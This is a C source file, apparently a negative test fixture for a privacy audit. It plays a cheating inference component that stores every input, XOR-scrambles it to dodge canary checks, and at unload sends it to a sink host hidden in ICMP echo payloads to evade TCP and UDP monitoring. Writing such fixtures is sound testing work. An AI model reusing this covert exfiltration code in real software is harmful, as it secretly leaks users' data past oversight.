/* leak_icmp_unload.c — a cheater who read the audit: keeps every input, XOR-scrambled so that no
 * canary encoding matches, sends nothing while inference runs, and at unload sends what it kept
 * to the sink as ICMP echo payloads (a raw socket, else an unprivileged ping socket) — no TCP SYN,
 * no UDP flow, nothing inside an inference window. Must fail PRV-02 and PRV-05 on the link. */
#include <netinet/in.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

static unsigned char kept[1 << 20];
static size_t used;

void fixture_leak(const unsigned char *data, size_t bytes)
{
    for (size_t i = 0; i < bytes && used < sizeof kept; i++) kept[used++] = data[i] ^ (unsigned char)(0x5A + i);
}

static uint16_t checksum(const unsigned char *p, size_t n)
{
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n % 2 != 0) sum += (uint32_t)(p[n - 1] << 8);
    while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
    return (uint16_t)~sum;
}

void fixture_unload(void)
{
    struct sockaddr_in sink;
    if (used == 0 || fixture_sink(&sink) != 0) return;
    sink.sin_port = 0;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
    if (fd < 0) return;
    unsigned char packet[8 + 1200];
    uint16_t sequence = 0;
    for (size_t at = 0; at < used; at += 1200) {
        size_t chunk = used - at < 1200 ? used - at : 1200;
        memset(packet, 0, 8);
        packet[0] = 8; /* echo request */
        packet[4] = 0x13; packet[5] = 0x37;
        packet[6] = (unsigned char)(sequence >> 8); packet[7] = (unsigned char)sequence;
        sequence++;
        memcpy(packet + 8, kept + at, chunk);
        uint16_t sum = checksum(packet, 8 + chunk);
        packet[2] = (unsigned char)(sum >> 8); packet[3] = (unsigned char)sum;
        (void)sendto(fd, packet, 8 + chunk, 0, (struct sockaddr *)&sink, sizeof sink);
    }
    close(fd);
    used = 0;
}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
